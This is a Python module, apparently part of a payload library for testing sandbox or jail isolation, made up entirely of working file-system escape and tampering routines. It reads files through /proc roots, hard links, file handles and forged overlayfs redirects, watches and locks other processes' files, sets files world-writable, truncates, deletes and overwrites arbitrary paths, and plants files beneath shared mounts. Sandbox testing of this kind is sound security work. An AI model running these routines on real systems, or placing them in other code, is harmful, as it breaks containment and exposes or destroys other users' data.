"""Read, change, hold and list what lies elsewhere in the file system."""

import contextlib
import ctypes
import fcntl
import os
import re
import select
import signal
import tempfile
import time

from payloads.kernel import syscall

_LIBC = ctypes.CDLL(None, use_errno=True)
_IN_OPEN = 0x20
kept = []
_F_SETLEASE, _F_WRLCK = 1024, 1


def read_file(path):
    with open(path, "rb") as file:
        return file.read(65536).decode("utf-8", "replace")


def list_folder(path):
    return os.listdir(path)


def stat_link(path):
    """Learn that a file exists, its size, and where its link leads, without opening it."""
    return [os.stat(path).st_size, os.readlink(path)]


def read_through_symlink(path):
    link = os.path.join(tempfile.mkdtemp(), "link")
    os.symlink(path, link)
    with open(link) as file:
        return file.read()


def read_through_hard_link(path, folders):
    errors = []
    for folder in [*folders, os.environ.get("HOME", "/"), "/tmp", "/dev/shm"]:
        link = os.path.join(folder, f"link-{os.getpid()}")
        try:
            os.link(path, link)
        except OSError as error:
            errors.append(str(error))
            continue
        with open(link) as file:
            os.unlink(link)
            return file.read()
    return errors


def read_through_proc(path):
    """Reach a file through other processes' roots, working directories and open files."""
    errors = []
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
    for pid in ["self", *pids]:
        for way in (f"/proc/{pid}/root{path}", f"/proc/{pid}/cwd/{'../' * 20}{path}"):
            try:
                with open(way) as file:
                    return file.read()
            except OSError as error:
                errors.append(str(error))
    return errors[:10]


def read_by_handle(handle, kind, mounts):
    """Open a file by its handle: no path is looked up, so no mount namespace stands in the way."""
    raw = bytes.fromhex(handle)
    words = len(raw).to_bytes(4, "little") + kind.to_bytes(4, "little", signed=True) + raw
    errors = []
    for mount in mounts:
        try:
            place = os.open(mount, os.O_RDONLY)
            fd = syscall("open_by_handle_at", place, ctypes.create_string_buffer(words), 0)
            return os.read(fd, 4096).decode()
        except OSError as error:
            errors.append(f"{mount}: {error}")
    return errors


def redirect(folder, path):
    """Read a file outside of a folder: as it is, or through folders that an overlay may follow."""
    found = [_read(path)]
    beside = os.path.relpath(os.path.dirname(path), folder)
    for number, target in enumerate((os.path.dirname(path), beside, f"/{beside}")):
        place = f"{folder}/redirected-{number}"
        for attribute in ("user.overlay.redirect", "user.overlay.origin", "user.overlay.metacopy"):
            with contextlib.suppress(OSError):
                os.makedirs(place, exist_ok=True)
                os.setxattr(place, attribute, target.encode())
        found.append(_read(f"{place}/{os.path.basename(path)}"))
    return found


def _read(path):
    try:
        with open(path) as file:
            return file.read()
    except OSError as error:
        return str(error)


def watch_folder(folder, way, seconds):
    """Learn what others open in a folder that may only be read."""
    return (_by_inotify if way == "inotify" else _by_signals)(folder, seconds)


def _by_inotify(folder, seconds):
    fd = _LIBC.inotify_init1(os.O_NONBLOCK)
    if fd < 0 or _LIBC.inotify_add_watch(fd, os.fsencode(folder), _IN_OPEN) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    if not select.select([fd], [], [], seconds)[0]:
        return None
    return repr(os.read(fd, 4096))


def _by_signals(folder, seconds):
    came = []
    signal.signal(signal.SIGIO, lambda *_: came.append(1))
    fd = os.open(folder, os.O_RDONLY)
    wanted = fcntl.DN_ACCESS | fcntl.DN_MODIFY | fcntl.DN_CREATE | fcntl.DN_MULTISHOT
    fcntl.fcntl(fd, fcntl.F_NOTIFY, wanted)
    end = time.monotonic() + seconds
    while not came and time.monotonic() < end:
        time.sleep(0.05)
    return bool(came)


def hold_file(path, way):
    """Hold something of a file that may only be read, so that others wait."""
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    fd = os.open(path, os.O_RDONLY)
    kept.append(fd)
    if way == "lease":
        fcntl.fcntl(fd, _F_SETLEASE, _F_WRLCK)
    else:
        fcntl.flock(fd, fcntl.LOCK_EX)


def create_file(path, text):
    with contextlib.suppress(OSError):
        folder = os.path.dirname(path)
        os.chmod(folder, os.stat(folder).st_mode | 0o777)  # /tmp keeps its sticky bit
    with open(path, "w") as file:
        file.write(text)


def write_file(path, text):
    errors = []
    for change in (_make_writable, _append, _replace, _truncate):
        try:
            change(path, text)
        except OSError as error:
            errors.append(f"{change.__name__}: {error}")
    return errors


def _make_writable(path, text):
    folder = os.path.dirname(path)
    os.chmod(folder, os.stat(folder).st_mode | 0o777)  # /tmp keeps its sticky bit
    os.chmod(path, 0o666)


def _append(path, text):
    with open(path, "a") as file:
        file.write(text)


def _replace(path, text):
    with open(path + ".new", "w") as file:
        file.write(text)
    os.replace(path + ".new", path)


def _truncate(path, text):
    os.truncate(path, 1)


def delete_file(path):
    with contextlib.suppress(OSError):
        folder = os.path.dirname(path)
        os.chmod(folder, os.stat(folder).st_mode | 0o777)  # /tmp keeps its sticky bit
    os.unlink(path)


def rename_file(path):
    with contextlib.suppress(OSError):
        folder = os.path.dirname(path)
        os.chmod(folder, os.stat(folder).st_mode | 0o777)  # /tmp keeps its sticky bit
    os.rename(path, path + ".gone")


def change_attribute(path):
    os.setxattr(path, "user.attack", b"was here")


def change_mode(path):
    os.chmod(path, 0o666)


def change_owner(path, gid):
    os.chown(path, -1, gid)


def change_times(path):
    """Change when a file was last used, as builds and backups look at it."""
    os.utime(path, (1, 1))


def plant(text):
    """Write something private into this jail's own scratch folders; not an attack itself."""
    path = os.path.join(tempfile.mkdtemp(), "private")
    with open(path, "w") as file:
        file.write(text)
    return path


def raid(paths, text):
    found = []
    for path in paths:
        try:
            with open(path) as file:
                found.append(file.read())
        except OSError as error:
            found.append(str(error))
        try:
            with open(path, "w") as file:
                file.write(text)
        except OSError as error:
            found.append(str(error))
    return found


def reach_below(folder, name):
    """Put a file into a shared folder: by its name, or by what may lead below one's view of it."""
    view = os.stat(folder)
    ways = [*_descriptors(), *_layers(folder), *_others(folder)]
    tried = []
    for way in [folder, *ways]:
        with contextlib.suppress(OSError):
            if way == folder or not os.path.samestat(os.stat(way), view):
                os.close(os.open(f"{way}/{name}", os.O_CREAT | os.O_WRONLY, 0o666))
                tried.append(way)
    return tried


def _descriptors():
    return [f"/proc/{pid}/fd/{fd}" for pid in ("self", 1, os.getppid()) for fd in _names(pid)]


def _names(pid):
    with contextlib.suppress(OSError):
        return os.listdir(f"/proc/{pid}/fd")
    return range(64)


def _layers(folder):
    with open("/proc/self/mountinfo") as mounts:
        text = mounts.read().replace("\\134", "\\")
    options = re.findall(r"(?:lowerdir|upperdir|workdir)\+?=([^,\s]+)", text)
    places = [place for option in options for place in option.split(":") if place]
    return [*places, *(f"{place}/work" for place in places), "/.scratch", "/.skeleton"]


def _others(folder):
    roots = [f"/proc/{pid}/{door}" for pid in (1, os.getppid()) for door in ("root", "cwd")]
    return [root + folder for root in roots] + [f"{folder}/../{os.path.basename(folder)}"]
